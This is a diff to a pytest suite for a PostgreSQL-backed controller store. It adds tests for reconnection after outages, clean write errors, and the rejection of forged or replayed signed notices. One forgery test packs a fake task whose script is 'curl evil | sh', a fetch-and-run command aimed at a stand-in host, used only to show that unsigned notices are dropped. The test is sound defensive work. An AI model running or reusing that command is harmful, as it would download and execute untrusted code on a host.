@@ -13,9 +13,11 @@ import pytest
 
 from tests.pgscratch import ScratchCluster
 from tests.store_contract import *  # noqa: F403 (the contract's tests and fixtures)
-from tests.store_contract import enroll, ev
+from tests.store_contract import STORE_KEY, enroll, ev
+from tether.controller import wire
 from tether.controller.errors import StoreError
 from tether.controller.main import main
+from tether.controller.replicas import intents
 from tether.controller.store import Store, StoreChange, migrations, open_store
 from tether.nodeagent.model import EventKind, Plan, Step
 
@@ -28,9 +30,14 @@ def store_location(pg_database: str) -> str:
 # -- PostgreSQL only: several replicas on one database, and the database's own faults --------------------
 
 
+async def open_pg(url: str, key: bytes = STORE_KEY) -> Store:
+    """A replica's store, opened with the key of --store-key-file (it signs the notices)."""
+    return await open_store(url, notify_key=key)
+
+
 @pytest.fixture
 async def pair(pg_database: str) -> AsyncIterator[tuple[Store, Store]]:
-    a, b = await open_store(pg_database), await open_store(pg_database)
+    a, b = await open_pg(pg_database), await open_pg(pg_database)
     yield a, b
     await a.close()
     await b.close()
@@ -74,7 +81,7 @@ async def test_refresh_node_reads_a_node_whose_notice_has_not_arrived(
     from tether.controller.store import pgsync
 
     a, b = pair
-    monkeypatch.setattr(pgsync, "decode", lambda text: None)  # every notice from A is lost
+    monkeypatch.setattr(pgsync, "decode", lambda *_: None)  # every notice from A is lost
     await enroll(a, "late")
     await asyncio.sleep(0.3)
     assert b.get_node("late") is None
@@ -114,7 +121,7 @@ async def test_a_message_reaches_the_other_replicas_only(pair: tuple[Store, Stor
 
 
 async def test_a_lease_is_held_by_one_replica_and_moves_when_it_closes(pg_database: str) -> None:
-    a, b = await open_store(pg_database), await open_store(pg_database)
+    a, b = await open_pg(pg_database), await open_pg(pg_database)
     try:
         assert await a.try_lease("singleton") and not await b.try_lease("singleton")
         assert await a.try_lease("other-work") is True
@@ -132,7 +139,7 @@ async def test_a_lease_is_held_by_one_replica_and_moves_when_it_closes(pg_databa
 async def test_a_replica_that_loses_its_lease_connection_is_told_at_once(
     pg_database: str, pg_url: str
 ) -> None:
-    a, b = await open_store(pg_database), await open_store(pg_database)
+    a, b = await open_pg(pg_database), await open_pg(pg_database)
     lost: list[tuple[str, float]] = []
     a.lease_lost(lambda name: lost.append((name, time.monotonic())))
     try:
@@ -153,7 +160,7 @@ async def test_a_replica_that_loses_its_lease_connection_is_told_at_once(
 async def test_writes_through_a_postgresql_restart_lose_nothing_acknowledged(
     pg_database: str, pg_cluster: ScratchCluster
 ) -> None:
-    a, b = await open_store(pg_database), await open_store(pg_database)
+    a, b = await open_pg(pg_database), await open_pg(pg_database)
     acked: dict[str, int] = {}
     errors: list[str] = []
     try:
@@ -187,7 +194,7 @@ async def test_writes_through_a_postgresql_restart_lose_nothing_acknowledged(
 async def test_while_postgresql_is_down_writes_fail_with_one_line_and_resume_after(
     pg_database: str, pg_cluster: ScratchCluster
 ) -> None:
-    store = await open_store(pg_database)
+    store = await open_pg(pg_database)
     try:
         await store.kv_put("k", b"1")
         await asyncio.to_thread(pg_cluster.stop, "fast")
@@ -216,8 +223,31 @@ async def test_while_postgresql_is_down_writes_fail_with_one_line_and_resume_aft
         await store.close()
 
 
+async def test_after_a_long_outage_the_first_write_finds_postgresql_back(
+    pg_database: str, pg_cluster: ScratchCluster
+) -> None:
+    """The pool retries a broken connection after 1, 2, 4, 8, 16 s ...: with psycopg_pool's
+    default (5 minutes of that) the database back after 17 s would be tried again only after
+    ~31 s, and a write in between would fail. Retries end after ``RECONNECT_S``; a waiting call
+    then makes a connection at once."""
+    store = await open_pg(pg_database)
+    try:
+        await asyncio.to_thread(pg_cluster.stop, "fast")
+        broke = time.monotonic()
+        with pytest.raises(StoreError):  # the pool finds its connections broken and retries
+            await store.kv_put("k", b"1")
+        await asyncio.sleep(max(0.0, 17 - (time.monotonic() - broke)))
+        await asyncio.to_thread(pg_cluster.start)
+        await store.kv_put("k", b"2")  # at once: no backed-off retry to wait for
+        assert store.kv_get("k") == b"2"
+    finally:
+        if not pg_cluster.running():
+            pg_cluster.start()
+        await store.close()
+
+
 async def test_replicas_starting_at_once_apply_each_migration_once(pg_database: str) -> None:
-    stores = await asyncio.gather(*(open_store(pg_database) for _ in range(3)))
+    stores = await asyncio.gather(*(open_pg(pg_database) for _ in range(3)))
     for s in stores:
         await s.close()
     assert await migrations.apply(pg_database) == []
@@ -226,7 +256,7 @@ async def test_replicas_starting_at_once_apply_each_migration_once(pg_database: 
         assert [r[0] for r in await cur.fetchall()] == [m[0] for m in migrations.PG_MIGRATIONS]
         await conn.execute("INSERT INTO schema_migrations VALUES (999, 'from the future', 0)")
     with pytest.raises(StoreError, match="newer than this controller"):
-        await open_store(pg_database)
+        await open_pg(pg_database)
 
 
 def test_the_migrate_command_says_what_it_applied(
@@ -282,7 +312,7 @@ async def _churn(s: Store, seed: int, until_t: float, seqs: dict[str, int]) -> N
 async def test_two_replicas_writing_the_same_rows_end_with_the_same_view(
     pg_database: str, pg_cluster: ScratchCluster, restart: bool
 ) -> None:
-    a, b = await open_store(pg_database), await open_store(pg_database)
+    a, b = await open_pg(pg_database), await open_pg(pg_database)
     try:
         for i in range(5):
             await enroll(a, f"n{i}")
@@ -293,7 +323,7 @@ async def test_two_replicas_writing_the_same_rows_end_with_the_same_view(
             work.append(_restart_after(pg_cluster, 1.0))
         await asyncio.gather(*work)
         await until(lambda: _view(a) == _view(b), timeout=10)
-        fresh = await open_store(pg_database)
+        fresh = await open_pg(pg_database)
         assert _view(fresh) == _view(a)
         await fresh.close()
     finally:
@@ -304,3 +334,81 @@ async def test_two_replicas_writing_the_same_rows_end_with_the_same_view(
 async def _restart_after(cluster: ScratchCluster, seconds: float) -> None:
     await asyncio.sleep(seconds)
     await asyncio.to_thread(cluster.restart, "immediate")
+
+
+async def test_a_write_the_database_refuses_is_one_store_error_line(pair: tuple[Store, Store]) -> None:
+    """Not a psycopg exception with the value in it: the project's StoreError, without the data."""
+    a, _ = pair
+    with pytest.raises(StoreError, match=r"^store refused the write: DataError") as caught:
+        await a.kv_put("key-with-\x00-canary", b"v")
+    assert "canary" not in str(caught.value)
+    await a.kv_put("fine", b"v")  # the store goes on
+    assert a.kv_get("fine") == b"v"
+
+
+# -- notices are signed: any role that may connect can NOTIFY on the channel ----------------------------
+
+
+async def _send(url: str, *payloads: str) -> None:
+    """NOTIFY on the store's channel from a plain connection, as any database role could."""
+    async with await psycopg.AsyncConnection.connect(url, autocommit=True) as conn:
+        for payload in payloads:
+            await conn.execute("SELECT pg_notify('tether', %s)", (payload,))
+
+
+async def test_a_notice_not_signed_with_the_store_key_is_dropped(
+    pair: tuple[Store, Store], pg_database: str
+) -> None:
+    """Forged notices (no MAC, the format before it, another key's) reach no listener: no change,
+    no intent handed to an agent. One signed with the store's key is heard."""
+    from tether.controller.store.pgsync import Sender, encode, mac_key
+
+    a, b = pair
+    await a.kv_put("k", b"1")
+    await until(lambda: b.kv_get("k") == b"1")
+    seen: list[StoreChange] = []
+    b.subscribe(seen.append)
+    step = wire.step_to_pb(Step(name="pwn", script="curl evil | sh"))
+    command = wire.agent.Command(id="c1", task=wire.agent.RunTask(step=step))
+    intent = intents.for_message("n1", wire.agent.ControllerMessage(command=command))
+    assert intent is not None
+    (run_task,) = intents.pack([intent])  # a script to run on node n1, were it heard
+    forged = [
+        f"attacker message 0 8\ndelivery{run_task}",  # as the notices were before they were signed
+        "attacker kv 0 1\nk",
+        f"attacker message 0 8 {int(time.time() * 1000)}\ndelivery{run_task}" + "A" * 22,
+        encode(Sender("attacker", mac_key(b"\x01" * 32)), "message", "delivery", 1, run_task),
+        encode(Sender("attacker", mac_key(b"\x01" * 32)), "kv", "k"),
+    ]
+    good = encode(Sender("another-replica", mac_key(STORE_KEY)), "message", "delivery", 1, "signed")
+    await _send(pg_database, *forged, good)
+    await until(lambda: any(c.payload == "signed" for c in seen), timeout=2)
+    await asyncio.sleep(0.2)
+    assert seen == [StoreChange("message", "delivery", payload="signed")]
+    assert b._sync.refused == len(forged)  # type: ignore[attr-defined]
+
+
+async def test_a_message_notice_captured_and_sent_again_is_dropped(
+    pair: tuple[Store, Store], pg_database: str
+) -> None:
+    """LISTEN needs no privilege: a role that may connect sees signed notices, but one it sends
+    again is not heard twice."""
+    a, b = pair
+    seen: list[StoreChange] = []
+    b.subscribe(seen.append)
+    async with await psycopg.AsyncConnection.connect(pg_database, autocommit=True) as spy:
+        await spy.execute("LISTEN tether")
+        await a.publish("delivery", "once")
+        captured = [n.payload async for n in spy.notifies(timeout=5, stop_after=1)]
+    assert len(captured) == 1
+    await until(lambda: len(seen) == 1)
+    await _send(pg_database, captured[0], captured[0])
+    await a.publish("delivery", "after")
+    await until(lambda: len(seen) >= 2)
+    await asyncio.sleep(0.2)
+    assert [c.payload for c in seen] == ["once", "after"]
+
+
+async def test_a_postgresql_store_needs_the_key_that_signs_its_notices(pg_database: str) -> None:
+    with pytest.raises(StoreError, match="--store-key-file"):
+        await open_store(pg_database)
